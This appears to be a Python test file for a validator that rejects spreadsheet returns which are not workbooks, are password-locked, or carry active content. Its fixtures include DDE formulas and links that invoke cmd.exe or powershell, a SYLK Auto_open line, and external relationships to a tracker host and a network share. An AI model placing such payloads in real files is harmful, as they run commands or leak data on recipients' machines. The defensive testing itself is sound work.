"""Files that are no workbook, or carry what no return needs, or are locked."""

from __future__ import annotations

import gzip
import io
import zipfile

import msoffcrypto.format.ooxml

from tests.hostile.made_grids import OFFICE, with_rows
from tests.hostile.zips import Hostile, base, changed, edited
from tests.support.returns import encrypted, valid_return

KIND, LOCK, ACTIVE = "no workbook", "passwords", "active content"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
BOOK_RELS, SHEET_RELS = "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet2.xml.rels"


def stream(*names: str) -> bytes:
    return OLE + b"".join((name + "\0").encode("utf-16-le").ljust(64, b"\0") for name in names)


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, blob in members.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), blob)
    return out.getvalue()


def related(rels: str, kind: str, target: str, *, outside: bool = False, **new: bytes) -> bytes:
    """A return with one more relationship, and the parts it leads to."""
    mode = ' TargetMode="External"' if outside else ""
    entry = f'<Relationship Id="evil" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    before = base().get(rels, f'<Relationships xmlns="{RELATIONSHIPS}"></Relationships>'.encode())
    return changed(
        {
            rels: before.replace(b"</Relationships>", entry.encode()),
            **{n.replace("__", "/").replace("_DOT_", "."): b for n, b in new.items()},
        }
    )


def formula(text: str) -> bytes:
    return with_rows(f'<row r="900"><c r="AZ900"><f>{text}</f><v>1</v></c></row>')


def many_rounds() -> bytes:
    locked = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(valid_return())).encrypt("orchard", locked)
    data = locked.getvalue()
    assert b'spinCount="100000"' in data
    return data.replace(b'spinCount="100000"', b'spinCount="999999"')


DDE = b'<externalLink xmlns="u:x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
MAIL = b"From: partner@example.org\r\nTo: laa@example.org\r\nSubject: Return\r\nMIME-Version: 1.0\r\n\r\nAttached.\r\n"
KINDS = (
    ("a PDF", "F07", b"%PDF-1.7\n%\xe2\xe3", "return.xlsx"),
    ("a PNG", "F07", b"\x89PNG\r\n\x1a\n" + bytes(90), "return.xlsx"),
    ("a JPEG", "F07", b"\xff\xd8\xff\xe0" + bytes(90), "scan.xlsx"),
    ("a GIF", "F07", b"GIF89a" + bytes(90), "scan.xlsx"),
    ("a bitmap", "F07", b"BM" + bytes(90), "scan.xlsx"),
    ("rich text", "F07", b"{\\rtf1\\ansi Dear all}", "return.xlsx"),
    ("a program", "F07", b"MZ" + bytes(200), "return.xlsx"),
    ("a Linux program", "F07", b"\x7fELF" + bytes(200), "return.xlsx"),
    ("a Word document", "F07", zipped(word__document_DOT_xml=b"<w/>"), "return.xlsx"),
    ("a presentation", "F07", zipped(ppt__presentation_DOT_xml=b"<p/>"), "return.xlsx"),
    ("an old Word document", "F07", stream("WordDocument"), "return.xlsx"),
    ("an Outlook message", "F07", stream("__properties_version1.0"), "return.msg"),
    ("an e-mail", "F07", MAIL, "return.eml"),
    ("an OpenDocument text", "F07", zipped(mimetype=b"application/vnd.oasis.opendocument.text"), "return.odt"),
    ("an OpenDocument spreadsheet", "F06", zipped(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "return.ods"),
    ("a binary workbook", "F06", zipped(xl__workbook_DOT_bin=b"\0"), "return.xlsb"),
    ("an old workbook", "F05", stream("Workbook"), "return.xls"),
    ("a workbook of 1995", "F05", stream("Book"), "return.xls"),
    ("an old container of nothing", "F07", OLE, "return.xls"),
    ("a CSV", "F06", b"Code,Actual\r\nNI 1,5\r\n", "return.csv"),
    ("a CSV under another name", "F06", b"Code;Actual\nNI 1;5\n", "return.xlsx"),
    ("a web page saved as .xls", "F06", b"<html><table><tr><td>5</td></tr></table></html>", "return.xls"),
    ("an XML spreadsheet of 2003", "F06", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', "return.xls"),
    ("SYLK, which Excel would run", "F06", b"ID;P\nO;E\nNN;NAuto_open;ER101C1\n", "return.slk"),
    ("a zip with the return in it", "F13", zipped(return_DOT_xlsx=b"PK"), "return.zip"),
    ("a zip with many files", "F13", zipped(a_DOT_pdf=b"%PDF", b_DOT_csv=b"x", c_DOT_exe=b"MZ"), "returns.zip"),
    ("a gzip", "F13", gzip.compress(b"x" * 500), "return.xlsx.gz"),
    ("a 7z", "F13", b"7z\xbc\xaf\x27\x1c" + bytes(50), "return.7z"),
    ("a RAR", "F13", b"Rar!\x1a\x07\0" + bytes(50), "return.rar"),
    ("nothing", "F02", b"", "return.xlsx"),
    ("one byte", "F07", b"P", "return.xlsx"),
    ("two letters", "F08", b"PK", "return.xlsx"),
    ("a zip of nothing", "F07", zipped(), "return.xlsx"),
    ("zeros", "F07", bytes(5000), "return.xlsx"),
    ("text", "F07", b"Dear all, please find attached.", "return.xlsx"),
    ("ten megabytes of one line", "F07", b"a" * 10_000_000, "return.xlsx"),
    ("the mark of an open workbook", "F11", b"\x05Ann  " + bytes(160), "~$return.xlsx"),
)  # fmt: skip
CASES = [
    *(Hostile(KIND, name, rule, lambda b=blob: b, file) for name, rule, blob, file in KINDS),
    Hostile(LOCK, "a password that nobody gave", "F04", lambda: encrypted(valid_return(), "orchard")),
    Hostile(LOCK, "a password that does not fit", "F14", lambda: encrypted(valid_return(), "orchard"), password="meadow"),
    Hostile(LOCK, "the right password", "", lambda: encrypted(valid_return(), "orchard"), password="orchard"),
    Hostile(LOCK, "Excel's own password", "", lambda: encrypted(valid_return(), "VelvetSweatshop")),
    Hostile(LOCK, "a million rounds", "F14", many_rounds, password="orchard"),
    Hostile(LOCK, "a damaged container", "F04", lambda: encrypted(valid_return(), "orchard")[:9000]),
    Hostile(LOCK, "a container of nothing", "F04", lambda: stream("EncryptionInfo", "EncryptedPackage")),
    Hostile(LOCK, "a Word document behind a password", "F07", lambda: encrypted(changed({"word/document.xml": b"<w/>"}), "VelvetSweatshop")),
    Hostile(LOCK, "a bomb behind a password", "F09", lambda: encrypted(edited("xl/styles.xml", lambda x: x.replace("?>", "?><!DOCTYPE a>", 1)), "VelvetSweatshop")),
    Hostile(ACTIVE, "macros", "F15", lambda: changed({"xl/vbaProject.bin": b"\0"})),
    Hostile(ACTIVE, "a macro sheet of 1992", "F15", lambda: related(BOOK_RELS, "xlMacrosheet", "macrosheets/sheet1.xml", xl__macrosheets__sheet1_DOT_xml=b"<x/>")),
    Hostile(ACTIVE, "a link by DDE", "F16", lambda: changed({"xl/externalLinks/externalLink1.xml": DDE})),
    Hostile(ACTIVE, "a formula by DDE", "F16", lambda: formula("cmd|'/C calc'!A0")),
    Hostile(ACTIVE, "a formula by DDE, in quotes", "F16", lambda: formula("'cmd'|'/C powershell'!'A0'")),
    Hostile(ACTIVE, "a formula by DDE in another one", "F16", lambda: formula("SUM(1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!'')")),
    Hostile(ACTIVE, "a bar in quoted text", "", lambda: formula('"a|b!c"&amp;A1')),
    Hostile(ACTIVE, "ActiveX", "F17", lambda: changed({"xl/activeX/activeX1.xml": b"<ax/>", "xl/activeX/activeX1.bin": b"\0"})),
    Hostile(ACTIVE, "a program to double-click", "F18", lambda: changed({"xl/embeddings/oleObject1.bin": stream("\x01Ole10Native")})),
    Hostile(ACTIVE, "a document in a sheet", "F19", lambda: changed({"xl/embeddings/doc1.docx": zipped(word__document_DOT_xml=b"<w/>")})),
    Hostile(ACTIVE, "a query to a database", "F20", lambda: changed({"xl/connections.xml": b"<connections/>"})),
    Hostile(ACTIVE, "a table from the web", "F20", lambda: changed({"xl/queryTables/queryTable1.xml": b"<queryTable/>"})),
    Hostile(ACTIVE, "a picture on a server", "F21", lambda: related(SHEET_RELS, "image", "https://tracker.example/p.png", outside=True)),
    Hostile(ACTIVE, "an object on a share", "F21", lambda: related(SHEET_RELS, "oleObject", "file:///\\\\server.example\\share\\x", outside=True)),
    Hostile(ACTIVE, "an add-in that starts by itself", "F21", lambda: changed({"xl/webextensions/webextension1.xml": b"<we/>"})),
    Hostile(ACTIVE, "a link to another workbook", "F22", lambda: related(BOOK_RELS, "externalLink", "externalLinks/e1.xml", xl__externalLinks__e1_DOT_xml=b"<externalLink/>")),
    Hostile(ACTIVE, "a link to a web page", "", lambda: related(SHEET_RELS, "hyperlink", "https://www.example.org/", outside=True)),
    Hostile(ACTIVE, "a formula that calls a web service", "", lambda: formula("WEBSERVICE(&quot;https://tracker.example/&quot;&amp;A1)")),
]  # fmt: skip
